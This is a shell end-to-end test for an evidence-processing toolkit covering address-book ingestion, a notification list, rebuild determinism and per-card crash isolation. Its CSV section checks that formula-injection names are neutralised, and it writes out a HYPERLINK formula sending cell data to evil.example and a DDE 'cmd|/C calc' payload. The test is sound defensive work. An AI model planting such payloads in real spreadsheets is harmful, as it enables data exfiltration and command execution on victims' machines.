#!/bin/sh
# End to end: people and the notification list on evidence whose people are
# known exactly (lka-gen --people writes address books in three formats, an
# mbox, and people-expected.tsv); lka-notify must print that list row by
# row, CSV cells must be inert in a spreadsheet, rebuilds must be
# deterministic; lka-contacts lists the books.  Also the generated city
# evidence: address-book figures against summary.txt.
. "$(dirname "$0")/lib.sh"
NOTIFY="$LKA_BUILD/tools/lka-notify"
CONTACTS="$LKA_BUILD/tools/lka-contacts"
command -v python3 >/dev/null || skip_all "python3 is needed to read CSV and JSON"

"$GEN" --people --quiet "$T/ev"
ok $? "lka-gen --people"
run "$INGEST" -q "$T/c.db" "$T/ev/people"
is "$rc" 0 "ingest of the people evidence is clean"
is "$(q "$T/c.db" "SELECT count(*) FROM contacts")" 10 "ten address-book entries (5 vCard, 3 CSV, 2 LDIF)"

run "$NOTIFY" -I mairie-exemple.fr -f jsonl "$T/c.db"
is "$rc" 0 "lka-notify (JSON Lines) runs"
cp "$T/out" "$T/list.jsonl"
python3 - "$T/list.jsonl" "$T/ev/people-expected.tsv" >"$T/cmp" <<'PY'
import json, sys
got = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
lines = open(sys.argv[2], encoding="utf-8").read().splitlines()
cols = lines[0].split("\t")
want = [dict(zip(cols, l.split("\t"))) for l in lines[1:]]
def norm(v):
    return "" if v is None else str(v)
bad = 0
for i in range(max(len(got), len(want))):
    g = got[i] if i < len(got) else {}
    w = want[i] if i < len(want) else {}
    for c in cols:
        if norm(g.get(c)) != w.get(c, ""):
            print("# row %d %s: got %r want %r" % (i + 1, c, norm(g.get(c)), w.get(c, "")))
            bad += 1
print("rows %d %d bad %d" % (len(got), len(want), bad))
PY
tail -1 "$T/cmp" | grep -q 'bad 0$'; ok $? "notification list matches people-expected.tsv row by row ($(tail -1 "$T/cmp"))"
grep '^#' "$T/cmp" | head -10

# CSV: formulas from attacker-controlled names come out inert.
run "$NOTIFY" -I mairie-exemple.fr "$T/c.db"
is "$rc" 0 "lka-notify (CSV) runs"
python3 - "$T/out" >"$T/csvchk" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8", newline="")))
live = [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
names = [r[1] for r in rows[1:]]
print("live %d" % len(live))
for n in names:
    print("name %s" % n)
PY
grep -q '^live 0$' "$T/csvchk"; ok $? "no CSV cell starts with = + - @ TAB or CR"
grep -qF "name '=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez ici\")" "$T/csvchk"; ok $? "=HYPERLINK(...) name kept, behind an apostrophe"
grep -qF "name '@SUM(1+1)*cmd|' /C calc'!A0" "$T/csvchk"; ok $? "@SUM(...) name kept, behind an apostrophe"
grep -qF "name '-2+3+cmd" "$T/csvchk"; ok $? "-... name kept, behind an apostrophe"

# Filters and grouping.
run "$NOTIFY" -I mairie-exemple.fr --internal -f jsonl "$T/c.db"
is "$(wc -l <"$T/out" | tr -d ' ')" 1 "--internal: only Zoé"
run "$NOTIFY" -I mairie-exemple.fr --external -d partner.example -e correspondence -f jsonl "$T/c.db"
is "$(python3 -c 'import json,sys; print(",".join(json.loads(l)["key"] for l in open(sys.argv[1])))' "$T/out")" \
	"mailto:paul@partner.example" "--domain partner.example --exposure correspondence: Paul"
run "$NOTIFY" -I mairie-exemple.fr -g -f jsonl "$T/c.db"
is "$(python3 -c 'import json,sys; print(" ".join("%s=%d" % (d["domain"], d["people"]) for d in map(json.loads, open(sys.argv[1]))))' "$T/out")" \
	"friend.example=1 mairie-exemple.fr=1 other.example=1 partner.example=5 (phone only)=1" "--by-domain counts people per organisation"
run "$NOTIFY" -I mairie-exemple.fr -e bogus "$T/c.db"
is "$rc" 2 "unknown exposure: usage error"

# Deterministic and idempotent.
q "$T/c.db" "SELECT * FROM people ORDER BY id; SELECT * FROM person_appearances ORDER BY id;
	SELECT * FROM person_names ORDER BY 1, 2" >"$T/p1"
run "$NOTIFY" -I mairie-exemple.fr --rebuild -f jsonl "$T/c.db"
q "$T/c.db" "SELECT * FROM people ORDER BY id; SELECT * FROM person_appearances ORDER BY id;
	SELECT * FROM person_names ORDER BY 1, 2" >"$T/p2"
cmp -s "$T/p1" "$T/p2"; ok $? "a rebuild gives the same rows and ids"
cmp -s "$T/out" "$T/list.jsonl"; ok $? "... and the same list"
run "$NOTIFY" -f jsonl "$T/c.db"
is "$(q "$T/c.db" "SELECT count(*) FROM people WHERE internal = 1")" 0 "other internal domains: rebuilt (nobody internal without -I)"
run "$NOTIFY" --no-rebuild -f jsonl "$T/c.db"
is "$rc" 0 "--no-rebuild reads the tables as they are (read-only)"

run "$VERIFY" "$T/c.db"
is "$rc" 0 "lka-verify: the case with contacts and people is consistent"

# lka-contacts: the inventory.
run "$CONTACTS" -f csv "$T/c.db"
is "$rc" 0 "lka-contacts runs"
is "$(python3 -c '
import csv, sys
for r in csv.DictReader(open(sys.argv[1], encoding="utf-8", newline="")):
    print("%s:%s:%s:%s" % (r["file"], r["entries"], r["lists"], r["distinct_addresses"]))' "$T/out" | tr '\n' ' ')" \
	"annuaire.ldif:2:1:1 carnet.vcf:5:0:5 partenaires.csv:3:0:3 " "books: entries, lists, distinct addresses"
run "$CONTACTS" --merged -f jsonl "$T/c.db"
is "$(wc -l <"$T/out" | tr -d ' ')" 8 "merged list: 8 distinct addresses"
grep -q '"address":"zoe.menard@mairie-exemple.fr","names":"Zoé Ménard","entries":2,"books":2' "$T/out"; ok $? "merged: Zoé in two books"
run "$CONTACTS" "$T/c.db"
grep -q '^Address books' "$T/out"; ok $? "table output"

# The generated city evidence: address books against summary.txt.
gen "$T/city" --seed 5 --messages 60
run "$INGEST" -q "$T/city.db" "$T/city/addressbooks"
val() { sed -n "s/^$1=//p" "$T/city/summary.txt"; }
is "$(q "$T/city.db" "SELECT count(*) FROM contacts")" "$(val addressbook_entries)" "city: every address-book entry"
is "$(q "$T/city.db" "SELECT count(*) FROM contact_emails")" "$(val addressbook_emails)" "city: every e-mail property"
is "$(q "$T/city.db" "SELECT count(DISTINCT address) FROM contact_emails")" "$(val addressbook_unique_addresses)" "city: distinct addresses"
for f in contacts_vcf thunderbird_ldif outlook_csv; do
	file=$(echo $f | sed 's/_/./')
	is "$(q "$T/city.db" "SELECT count(*) || '/' || sum(email_count) FROM contacts c JOIN source_files f ON f.id = c.source_file_id WHERE f.relpath = '$file'")" \
		"$(val ${f}_cards)/$(val ${f}_emails)" "city: $file entries/e-mails"
done
# A reader that crashes on one card loses that card only; the file is read on.
mkdir -p "$T/crash"
for i in 1 2 3 4 5; do
	m=""; [ "$i" = 3 ] && m="LKA-POISON"
	printf 'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Card %s\r\nNOTE:%s\r\nEMAIL:c%s@example.org\r\nEND:VCARD\r\n' "$i" "$m" "$i"
done >"$T/crash/cards.vcf"
rc=0
LKA_FAULT="crash:LKA-POISON" $WRAP "$INGEST" -q "$T/crash.db" "$T/crash" >/dev/null 2>&1 || rc=$?
is "$rc" 1 "crash on a card: ingest finishes with exit 1"
is "$(q "$T/crash.db" "SELECT group_concat(full_name, '|') FROM (SELECT full_name FROM contacts ORDER BY ordinal)")" \
	"Card 1|Card 2|Card 4|Card 5" "crash on a card: exactly that card is missing"
is "$(q "$T/crash.db" "SELECT count(*) FROM errors WHERE kind = 'crash' AND location LIKE '%cards.vcf: item 2, offset%'")" 1 \
	"crash on a card: the error names the file, entry and offset"

# Address books attached to messages: read from the attachment, tied to it.
run "$INGEST" -q "$T/city2.db" "$T/city/maildir" "$T/city/mbox" "$T/city/eml"
ok $([ "$rc" -le 1 ]; echo $?) "city mail ingested (exit $rc)"
is "$(q "$T/city2.db" "SELECT count(DISTINCT c.id) || '/' || count(e.id) FROM contacts c
	JOIN attachments a ON a.id = c.attachment_id LEFT JOIN contact_emails e ON e.contact_id = c.id
	WHERE a.filename = 'Contacts Outlook.csv' AND c.message_id = a.message_id")" \
	"$(val outlook_csv_cards)/$(val outlook_csv_emails)" "attached Outlook export (Windows-1252): every entry, tied to its message"
is "$(q "$T/city2.db" "SELECT count(*) FROM contacts c JOIN attachments a ON a.id = c.attachment_id
	WHERE a.filename = 'Emma Clarke.vcf' AND c.full_name = 'Emma Clarke'")" 1 "attached vCard read"
is "$(q "$T/city2.db" "SELECT count(*) FROM contacts c LEFT JOIN attachments a ON a.id = c.attachment_id
	WHERE c.attachment_id IS NULL OR a.message_id IS NOT c.message_id")" 0 "every attached entry names its message and attachment"
done_testing
